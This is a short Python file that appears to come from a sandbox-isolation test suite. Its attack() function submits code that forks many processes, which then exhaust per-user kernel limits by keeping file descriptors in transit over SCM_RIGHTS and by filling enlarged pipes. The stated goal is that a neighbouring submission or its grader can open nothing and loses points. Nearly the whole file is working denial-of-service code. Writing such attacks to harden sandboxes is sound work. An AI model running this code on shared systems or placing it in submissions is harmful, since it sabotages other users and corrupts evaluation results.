"""Opens as many files, pipes and sockets as it can in many processes, and fills the pipes.

The kernel counts pages of pipes and descriptors that are in transit per user, in all its processes.

Success: a neighbor's code or its grader can open no file, pipe or socket, and it loses points.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import array, fcntl, os, socket, time

        def fill():
            while True:
                ours, theirs = socket.socketpair()
                kept.append((ours, theirs))
                ours.setblocking(False)
                try:
                    for _ in range(100):  # descriptors that nobody receives
                        rights = array.array("i", [theirs.fileno()] * 200)
                        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
                except OSError:
                    pass
                reader, writer = os.pipe()
                os.set_blocking(writer, False)
                try:
                    fcntl.fcntl(writer, 1031, 1 << 20)  # F_SETPIPE_SZ
                except OSError:
                    pass
                try:
                    while True:
                        os.write(writer, bytes(4096))
                except OSError:
                    pass

        kept = []
        for _ in range(20):
            try:
                if os.fork():
                    continue
            except OSError:
                break
            try:
                fill()
            except OSError:
                pass
            time.sleep(25)
            os._exit(0)
        time.sleep(20)
    """
    )
